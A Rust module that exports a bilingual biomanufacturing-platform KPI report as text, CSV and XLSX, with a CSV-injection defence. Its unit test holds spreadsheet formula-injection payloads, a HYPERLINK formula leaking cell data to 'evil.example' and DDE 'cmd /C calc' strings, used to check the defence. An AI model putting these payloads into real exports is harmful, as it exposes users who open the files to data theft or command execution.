//! The KPI report as files: one sheet per view (targets, KPIs, breakdowns, monthly series,
//! funnel), each with Chinese and English headers; rendered as a text table, CSV (one view) or
//! an XLSX workbook (every view, one sheet each). The CLI and the HTTP API both render from here,
//! so the file an analyst downloads is the one the command prints.

use chrono::NaiveDate;
use rust_xlsxwriter::{Format, FormatAlign, Workbook, XlsxError};

use crate::kpi::{BreakdownRow, KpiReport};

#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Int(u64),
    Num(f64),
    Date(NaiveDate),
    Bool(bool),
    Empty,
}

impl Cell {
    fn text(&self) -> String {
        match self {
            Cell::Text(s) => s.clone(),
            Cell::Int(n) => n.to_string(),
            Cell::Num(x) => format!("{x:.1}"),
            Cell::Date(d) => d.to_string(),
            Cell::Bool(true) => "yes".into(),
            Cell::Bool(false) => "no".into(),
            Cell::Empty => String::new(),
        }
    }
}

impl From<&str> for Cell {
    fn from(s: &str) -> Cell {
        Cell::Text(s.to_string())
    }
}
impl From<String> for Cell {
    fn from(s: String) -> Cell {
        Cell::Text(s)
    }
}
impl From<u64> for Cell {
    fn from(n: u64) -> Cell {
        Cell::Int(n)
    }
}
impl From<u32> for Cell {
    fn from(n: u32) -> Cell {
        Cell::Int(u64::from(n))
    }
}
impl From<f64> for Cell {
    fn from(x: f64) -> Cell {
        Cell::Num(x)
    }
}
impl From<NaiveDate> for Cell {
    fn from(d: NaiveDate) -> Cell {
        Cell::Date(d)
    }
}
impl From<bool> for Cell {
    fn from(b: bool) -> Cell {
        Cell::Bool(b)
    }
}
impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(o: Option<T>) -> Cell {
        o.map_or(Cell::Empty, Into::into)
    }
}

/// A column: machine key (CSV header), Chinese and English headers.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Column {
    pub key: &'static str,
    pub zh: &'static str,
    pub en: &'static str,
}

const fn col(key: &'static str, zh: &'static str, en: &'static str) -> Column {
    Column { key, zh, en }
}

#[derive(Debug, Clone, PartialEq)]
pub struct Sheet {
    /// The view's name: `targets`, `kpis`, `province`, … (the API's `view`); the XLSX sheet is
    /// named by `title_zh`, the words the pages head the same table with.
    pub name: &'static str,
    pub title_zh: &'static str,
    pub title_en: &'static str,
    pub columns: Vec<Column>,
    pub rows: Vec<Vec<Cell>>,
}

/// The views a report has, in workbook order.
pub const VIEWS: [&str; 8] = [
    "about",
    "targets",
    "kpis",
    "province",
    "domain",
    "applicant_kind",
    "monthly",
    "funnel",
];

const KPI_COLUMNS: [Column; 5] = [
    col("listed_platforms", "平台数(K-1)", "listed platforms (K-1)"),
    col(
        "served_enterprises",
        "服务企业(K-2)",
        "served enterprises (K-2)",
    ),
    col(
        "incubated_products",
        "孵化产品(K-3)",
        "incubated products (K-3)",
    ),
    col(
        "industrialized_results",
        "成果产业化(K-4)",
        "industrialized results (K-4)",
    ),
    col(
        "spun_off_enterprises",
        "衍生孵化企业(K-4)",
        "spun-off enterprises (K-4)",
    ),
];

fn breakdown_sheet(
    name: &'static str,
    title_zh: &'static str,
    title_en: &'static str,
    rows: &[BreakdownRow],
) -> Sheet {
    let mut columns = vec![
        col("key", "代码", "code"),
        col("name_zh", "名称", "name (zh)"),
        col("name_en", "名称(英文)", "name (en)"),
    ];
    columns.extend(KPI_COLUMNS);
    Sheet {
        name,
        title_zh,
        title_en,
        columns,
        rows: rows
            .iter()
            .map(|r| {
                let mut row: Vec<Cell> = vec![
                    r.key.clone().into(),
                    r.name_zh.clone().into(),
                    r.name_en.clone().into(),
                ];
                row.extend(r.counts.values().map(Cell::from));
                row
            })
            .collect(),
    }
}

/// Every view of the report as a sheet.
pub fn sheets(r: &KpiReport) -> Vec<Sheet> {
    let about = Sheet {
        name: "about",
        title_zh: "报告说明",
        title_en: "About this report",
        columns: vec![
            col("field", "项目", "field"),
            col("value", "内容", "value"),
        ],
        rows: vec![
            vec!["as_of 统计截止日(业务日期)".into(), r.as_of.into()],
            vec![
                "known_at 数据知悉时点(记录时间)".into(),
                r.known_at
                    .map_or_else(|| "latest 最新".to_string(), |t| t.to_rfc3339())
                    .into(),
            ],
            vec![
                "target_sets 目标集".into(),
                r.target_sets
                    .iter()
                    .map(|s| format!("{} r{} ({})", s.target_set_id, s.revision, s.name))
                    .collect::<Vec<_>>()
                    .join("; ")
                    .into(),
            ],
            vec![
                "rules 口径".into(),
                "K-2/K-3/K-4: records dated within a listed period, dated <= as_of, not retracted; K-2 distinct USCC; K-3 owner USCC + normalised name".into(),
            ],
        ],
    };
    let targets = Sheet {
        name: "targets",
        title_zh: "目标进展",
        title_en: "Progress against targets",
        columns: vec![
            col("target_set_id", "目标集", "target set"),
            col("rule", "规则", "rule"),
            col("metric", "指标", "metric"),
            col("name_zh", "指标名称", "name"),
            col("scope", "范围", "scope"),
            col("comparator", "比较", "comparator"),
            col("threshold", "目标值", "threshold"),
            col("deadline", "期限", "deadline"),
            col("value", "当前值", "value"),
            col("met", "是否达成", "met"),
            col("gap", "差距", "gap"),
            col("rate_window_from", "测算起点", "rate window from"),
            col("rate_per_month", "月均增量", "rate per month"),
            col("forecast_at_deadline", "期限预测值", "forecast at deadline"),
            col("forecast_met", "预计达成", "forecast met"),
            col("required_per_month", "所需月均增量", "required per month"),
            col("status", "状态", "status"),
        ],
        rows: r
            .targets
            .iter()
            .map(|t| {
                vec![
                    t.target_set_id.clone().into(),
                    t.rule.into(),
                    t.metric.code().into(),
                    t.name_zh.into(),
                    t.scope.clone().into(),
                    t.comparator.into(),
                    t.threshold.into(),
                    t.deadline.into(),
                    t.value.into(),
                    t.met.into(),
                    t.gap.into(),
                    t.rate_window_from.into(),
                    t.rate_per_month.into(),
                    t.forecast_at_deadline.into(),
                    t.forecast_met.into(),
                    t.required_per_month.into(),
                    t.status.into(),
                ]
            })
            .collect(),
    };
    let kpis = Sheet {
        name: "kpis",
        title_zh: "指标值",
        title_en: "KPI values",
        columns: vec![
            col("rule", "规则", "rule"),
            col("metric", "指标", "metric"),
            col("name_zh", "名称", "name (zh)"),
            col("name_en", "名称(英文)", "name (en)"),
            col("value", "数值", "value"),
        ],
        rows: r
            .values
            .iter()
            .map(|v| {
                vec![
                    v.rule.into(),
                    v.metric.code().into(),
                    v.name_zh.into(),
                    v.name_en.into(),
                    v.value.into(),
                ]
            })
            .collect(),
    };
    let mut monthly_columns = vec![
        col("month", "月份", "month"),
        col("as_of", "截止日", "as of"),
    ];
    monthly_columns.extend(KPI_COLUMNS);
    let monthly = Sheet {
        name: "monthly",
        title_zh: "月度序列",
        title_en: "Monthly series",
        columns: monthly_columns,
        rows: r
            .monthly
            .iter()
            .map(|m| {
                let mut row: Vec<Cell> = vec![m.month.clone().into(), m.as_of.into()];
                row.extend(m.counts.values().map(Cell::from));
                row
            })
            .collect(),
    };
    let funnel = Sheet {
        name: "funnel",
        title_zh: "申报漏斗",
        title_en: "Application funnel",
        columns: FUNNEL_COLUMNS.to_vec(),
        rows: r
            .funnel
            .iter()
            .map(|f| {
                vec![
                    f.round_id.clone().into(),
                    f.province.clone().into(),
                    f.submitted.into(),
                    f.endorsed.into(),
                    f.recommended.into(),
                    f.evaluated_pass.into(),
                    f.on_notice.into(),
                    f.listed.into(),
                    f.rejected.into(),
                    f.not_selected.into(),
                    f.withdrawn.into(),
                ]
            })
            .collect(),
    };
    vec![
        about,
        targets,
        kpis,
        breakdown_sheet("province", "分省", "By province", &r.by_province),
        breakdown_sheet("domain", "分领域", "By domain", &r.by_domain),
        breakdown_sheet(
            "applicant_kind",
            "分单位类型",
            "By applicant kind",
            &r.by_applicant_kind,
        ),
        monthly,
        funnel,
    ]
}

/// One view by name, or an error listing the views.
pub fn sheet(r: &KpiReport, view: &str) -> Result<Sheet, String> {
    sheets(r)
        .into_iter()
        .find(|s| s.name == view)
        .ok_or_else(|| format!("no view '{view}'; one of {}", VIEWS.join(", ")))
}

/// Terminal columns a string takes (CJK and full-width forms take two: Unicode's East Asian
/// Width, as `unicode-width` keeps it).
fn width(s: &str) -> usize {
    unicode_width::UnicodeWidthStr::width(s)
}

fn pad(s: &str, w: usize, right: bool) -> String {
    let fill = " ".repeat(w.saturating_sub(width(s)));
    if right {
        format!("{fill}{s}")
    } else {
        format!("{s}{fill}")
    }
}

/// Every sheet as an aligned text table under its bilingual title.
pub fn to_table(sheets: &[Sheet]) -> String {
    let mut out = String::new();
    for s in sheets {
        out.push_str(&format!("== {} / {} ==\n", s.title_zh, s.title_en));
        let cells: Vec<Vec<String>> = s
            .rows
            .iter()
            .map(|r| r.iter().map(Cell::text).collect())
            .collect();
        let numeric: Vec<bool> = (0..s.columns.len())
            .map(|i| {
                s.rows
                    .iter()
                    .all(|r| matches!(r.get(i), Some(Cell::Int(_) | Cell::Num(_) | Cell::Empty)))
                    && !s.rows.is_empty()
            })
            .collect();
        let widths: Vec<usize> = s
            .columns
            .iter()
            .enumerate()
            .map(|(i, c)| {
                cells
                    .iter()
                    .map(|r| width(&r[i]))
                    .chain([width(c.zh), width(c.key)])
                    .max()
                    .unwrap_or(0)
            })
            .collect();
        for header in [
            s.columns.iter().map(|c| c.zh).collect::<Vec<_>>(),
            s.columns.iter().map(|c| c.key).collect(),
        ] {
            let line: Vec<String> = header
                .iter()
                .enumerate()
                .map(|(i, h)| pad(h, widths[i], numeric[i]))
                .collect();
            out.push_str(line.join("  ").trim_end());
            out.push('\n');
        }
        for r in &cells {
            let line: Vec<String> = r
                .iter()
                .enumerate()
                .map(|(i, v)| pad(v, widths[i], numeric[i]))
                .collect();
            out.push_str(line.join("  ").trim_end());
            out.push('\n');
        }
        if cells.is_empty() {
            out.push_str("(none)\n");
        }
        out.push('\n');
    }
    out
}

/// A CSV cell a spreadsheet program will not run (OWASP, CSV injection; security review M5): a
/// cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return, and is not simply a
/// number, gets a leading apostrophe, so Excel and WPS show it as text instead of evaluating it.
pub fn csv_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && cell.trim().parse::<f64>().is_err() {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// Rewrites CSV text (with or without the BOM) cell by cell through `csv_safe`.
pub fn neutralise_csv(text: &str) -> Result<String, csv::Error> {
    let body = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(body.as_bytes());
    let mut w = csv::WriterBuilder::new()
        .flexible(true)
        .from_writer(vec![0xEF, 0xBB, 0xBF]);
    for record in r.records() {
        let record = record?;
        w.write_record(
            record
                .iter()
                .map(csv_safe)
                .collect::<Vec<_>>()
                .iter()
                .map(|c| c.as_ref()),
        )?;
    }
    let bytes = w.into_inner().map_err(|e| e.into_error())?;
    Ok(String::from_utf8(bytes).expect("csv writes UTF-8"))
}

/// One sheet as CSV: UTF-8 with a BOM (spreadsheet programs then show Chinese), the header the
/// machine keys; every cell through `csv_safe`.
pub fn to_csv(sheet: &Sheet) -> Result<String, csv::Error> {
    let mut w = csv::WriterBuilder::new().from_writer(vec![0xEF, 0xBB, 0xBF]);
    w.write_record(sheet.columns.iter().map(|c| c.key))?;
    for r in &sheet.rows {
        w.write_record(r.iter().map(|c| csv_safe(&c.text()).into_owned()))?;
    }
    let bytes = w.into_inner().map_err(|e| e.into_error())?;
    Ok(String::from_utf8(bytes).expect("csv writes UTF-8"))
}

/// Every sheet in one workbook: per sheet a Chinese and an English header row, then the data
/// (numbers as numbers, dates as dates).
pub fn to_xlsx(sheets: &[Sheet]) -> Result<Vec<u8>, XlsxError> {
    let mut book = Workbook::new();
    let header = Format::new().set_bold().set_align(FormatAlign::Center);
    let date = Format::new().set_num_format("yyyy-mm-dd");
    let decimal = Format::new().set_num_format("0.0");
    for s in sheets {
        let ws = book.add_worksheet();
        ws.set_name(s.title_zh)?;
        for (c, column) in s.columns.iter().enumerate() {
            let c = c as u16;
            ws.write_string_with_format(0, c, column.zh, &header)?;
            ws.write_string_with_format(1, c, column.en, &header)?;
            let w = s
                .rows
                .iter()
                .map(|r| width(&r[c as usize].text()))
                .chain([width(column.zh), width(column.en)])
                .max()
                .unwrap_or(8)
                .clamp(8, 60);
            ws.set_column_width(c, w as f64 + 2.0)?;
        }
        ws.set_freeze_panes(2, 0)?;
        for (i, r) in s.rows.iter().enumerate() {
            let row = i as u32 + 2;
            for (c, cell) in r.iter().enumerate() {
                let c = c as u16;
                match cell {
                    Cell::Text(t) => {
                        ws.write_string(row, c, t)?;
                    }
                    Cell::Int(n) => {
                        ws.write_number(row, c, *n as f64)?;
                    }
                    Cell::Num(x) => {
                        ws.write_number_with_format(row, c, *x, &decimal)?;
                    }
                    Cell::Date(d) => {
                        let dt = rust_xlsxwriter::ExcelDateTime::from_ymd(
                            d.year_ce().1 as u16,
                            d.month0() as u8 + 1,
                            d.day0() as u8 + 1,
                        )?;
                        ws.write_datetime_with_format(row, c, &dt, &date)?;
                    }
                    Cell::Bool(b) => {
                        ws.write_boolean(row, c, *b)?;
                    }
                    Cell::Empty => {}
                }
            }
        }
    }
    book.save_to_buffer()
}

use chrono::Datelike;

/// The roster's columns: the download's headers, the roster page's column heads and the CLI's
/// table heads are these words (one set of terms). Codes beside names for machines.
pub const ROSTER_COLUMNS: [Column; 18] = [
    col("platform_id", "平台编号", "platform id"),
    col("platform_name", "平台名称", "platform name"),
    col("applicant_name", "申报单位", "applicant"),
    col("uscc", "统一社会信用代码", "USCC"),
    col("applicant_kind", "单位类型代码", "applicant kind code"),
    col("applicant_kind_name", "单位类型", "applicant kind"),
    col("province", "省份代码", "province code"),
    col("province_name", "省份", "province"),
    col("city", "城市代码", "city code"),
    col("domains", "领域代码", "domain codes"),
    col("domain_names", "领域", "domains"),
    col("status", "状态代码", "status code"),
    col("status_name", "状态", "status"),
    col("on_roster", "在名单内", "on roster"),
    col("listed_on", "入列日期", "listed on"),
    col("next_review_due", "下次复核截止", "next review due"),
    col("stars", "星级", "stars"),
    col("stars_year", "星级年度", "stars year"),
];

/// The column `key` of `columns`, for a page or the CLI to head its own column with the same
/// words as the download.
pub fn term(columns: &[Column], key: &str) -> Column {
    *columns
        .iter()
        .find(|c| c.key == key)
        .unwrap_or_else(|| panic!("no column {key}"))
}

/// The application funnel's columns (the KPI workbook's `funnel` sheet, the funnel page's
/// table, `roster query funnel`): each stage named as the platform's status is.
pub const FUNNEL_COLUMNS: [Column; 11] = [
    col("round_id", "批次", "round"),
    col("province", "省份", "province"),
    col("submitted", "已申报", "submitted"),
    col("endorsed", "市级已推荐", "endorsed by the city"),
    col("recommended", "省级已推荐", "recommended by the province"),
    col("evaluated_pass", "评审通过", "evaluation passed"),
    col("on_notice", "公示中", "on public notice"),
    col("listed", "已入列", "listed"),
    col("rejected", "未获推荐", "rejected"),
    col("not_selected", "未入选", "not selected"),
    col("withdrawn", "已撤回", "withdrawn"),
];

/// The figures of a call of the bioreactor competition, per task or per province (the same
/// columns).
pub const CALL_COLUMNS: [Column; 11] = [
    col("key", "编号", "id"),
    col("name", "名称", "name"),
    col("bids", "申请", "bids"),
    col("consortia", "联合体", "consortia"),
    col("units", "参与单位", "units"),
    col("recommended", "省级已推荐", "recommended"),
    col("shortlisted", "入围", "shortlisted"),
    col("milestones_on_time", "节点按期完成", "milestones on time"),
    col("milestones_late", "节点逾期完成", "milestones late"),
    col("milestones_overdue", "节点逾期未完成", "milestones overdue"),
    col("succeeded", "揭榜成功", "succeeded"),
];

/// A call's figures as two sheets: per task (`tasks`) and per province (`provinces`).
pub fn call_sheets(view: &roster_domain::challenge::CallView) -> Vec<Sheet> {
    let sheet = |name, title_zh, title_en, rows: &[roster_domain::challenge::Tally]| Sheet {
        name,
        title_zh,
        title_en,
        columns: CALL_COLUMNS.to_vec(),
        rows: rows
            .iter()
            .map(|t| {
                vec![
                    t.key.clone().into(),
                    t.name.clone().into(),
                    t.bids.into(),
                    t.consortia.into(),
                    t.units.into(),
                    t.recommended.into(),
                    t.shortlisted.into(),
                    t.milestones_on_time.into(),
                    t.milestones_late.into(),
                    t.milestones_overdue.into(),
                    t.succeeded.into(),
                ]
            })
            .collect(),
    };
    vec![
        sheet("tasks", "分任务", "By task", &view.by_task),
        sheet("provinces", "分省", "By province", &view.by_province),
    ]
}

/// The roster rows (one platform each) as a sheet, for the CSV/XLSX download of the roster.
pub fn roster_sheet(rows: &[crate::queries::RosterRow]) -> Sheet {
    Sheet {
        name: "roster",
        title_zh: "中试平台名单",
        title_en: "Pilot platform roster",
        columns: ROSTER_COLUMNS.to_vec(),
        rows: rows
            .iter()
            .map(|r| {
                vec![
                    r.platform_id.clone().into(),
                    r.platform_name.clone().into(),
                    r.applicant_name.clone().into(),
                    r.uscc.clone().into(),
                    r.applicant_kind.map(|k| k.code().to_string()).into(),
                    r.applicant_kind.map(|k| k.name_zh().to_string()).into(),
                    r.province.clone().into(),
                    r.province_name.clone().into(),
                    r.city.clone().into(),
                    r.domains.clone().into(),
                    r.domains
                        .split(';')
                        .filter_map(roster_domain::values::Domain::parse)
                        .map(|d| d.name_zh())
                        .collect::<Vec<_>>()
                        .join("、")
                        .into(),
                    r.status.code().to_string().into(),
                    r.status.name_zh().to_string().into(),
                    r.on_roster.into(),
                    r.listed_on.into(),
                    r.next_review_due.into(),
                    r.stars.map(u64::from).into(),
                    r.stars_year
                        .map(|y| Cell::Int(y.max(0) as u64))
                        .unwrap_or(Cell::Empty),
                ]
            })
            .collect(),
    }
}

/// The columns of the ministry's services spreadsheet (服务成果登记表), one service per row: the
/// template applicants download and the upload reads back (CSV by the keys, XLSX by the Chinese
/// and English header rows). Which columns a row fills depends on its kind (类别).
pub const SERVICE_COLUMNS: [Column; 11] = [
    col("dated", "日期", "Date"),
    col("kind", "类别", "Kind"),
    col("enterprise_name", "企业名称", "Enterprise"),
    col("enterprise_uscc", "企业统一社会信用代码", "Enterprise USCC"),
    col("contract_cny", "合同金额（元）", "Contract (CNY)"),
    col("valuation_cny", "企业估值（元）", "Valuation (CNY)"),
    col("product_name", "产品名称", "Product"),
    col("owner_uscc", "产品所属企业信用代码", "Product owner's USCC"),
    col("domain", "产品领域", "Product domain"),
    col("project", "产业化项目名称", "Project"),
    col("revenue_cny", "产值（元）", "Revenue (CNY)"),
];

/// The services spreadsheet with no rows: the template to fill in.
pub fn services_template() -> Sheet {
    Sheet {
        name: "services",
        title_zh: "服务成果登记表",
        title_en: "Services",
        columns: SERVICE_COLUMNS.to_vec(),
        rows: Vec::new(),
    }
}

/// The columns of the published roster (RULES.md §13), for the public downloads and pages.
pub const PUBLIC_ROSTER_COLUMNS: [Column; 12] = [
    col("batch", "批次", "batch"),
    col("serial", "序号", "no."),
    col("unit_name", "依托单位", "unit"),
    col("platform_name", "平台名称", "platform"),
    col("domains", "领域代码", "domain codes"),
    col("domain_names", "领域", "domains"),
    col("province", "省份代码", "province code"),
    col("province_name", "省份", "province"),
    col("stars", "星级", "stars"),
    col("stars_year", "星级年度", "rated year"),
    col("listed_on", "列入日期", "listed on"),
    col("platform_id", "平台编号", "platform id"),
];

/// The published roster as one sheet.
pub fn public_roster_sheet(rows: &[crate::public::PublicEntry]) -> Sheet {
    let opt = |v: Option<u64>| v.map_or(Cell::Empty, Cell::Int);
    Sheet {
        name: "roster",
        title_zh: "生物制造中试能力建设平台名单",
        title_en: "Biomanufacturing pilot platforms",
        columns: PUBLIC_ROSTER_COLUMNS.to_vec(),
        rows: rows
            .iter()
            .map(|r| {
                vec![
                    r.batch_name.clone().into(),
                    r.serial.into(),
                    r.unit_name.clone().into(),
                    r.platform_name.clone().into(),
                    r.domains
                        .iter()
                        .map(|d| d.code())
                        .collect::<Vec<_>>()
                        .join(";")
                        .into(),
                    r.domain_names.join("、").into(),
                    r.province.clone().into(),
                    r.province_name.clone().into(),
                    opt(r.stars.map(u64::from)),
                    opt(r.stars_year.and_then(|y| u64::try_from(y).ok())),
                    r.listed_on.into(),
                    r.platform_id.clone().into(),
                ]
            })
            .collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn widths_count_chinese_as_two_columns() {
        assert_eq!(width("服务企业"), 8);
        assert_eq!(width("K-2"), 3);
        assert_eq!(pad("企业", 6, false), "企业  ");
    }

    /// Security review M5: the cells of the reproduction open as text, numbers stay numbers.
    #[test]
    fn csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised() {
        for cell in [
            r#"=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")"#,
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)",
            "\tx",
            "\r=1",
        ] {
            assert_eq!(csv_safe(cell), format!("'{cell}"), "{cell}");
        }
        for plain in [
            "深圳示例合成生物研究院",
            "-12",
            "+3.5",
            "2025-12-01",
            "K-2",
            "",
        ] {
            assert_eq!(csv_safe(plain), plain);
        }
        let csv = neutralise_csv("name,value\n=1+1,-5\n").unwrap();
        assert_eq!(csv, "\u{feff}name,value\n'=1+1,-5\n");
    }
}
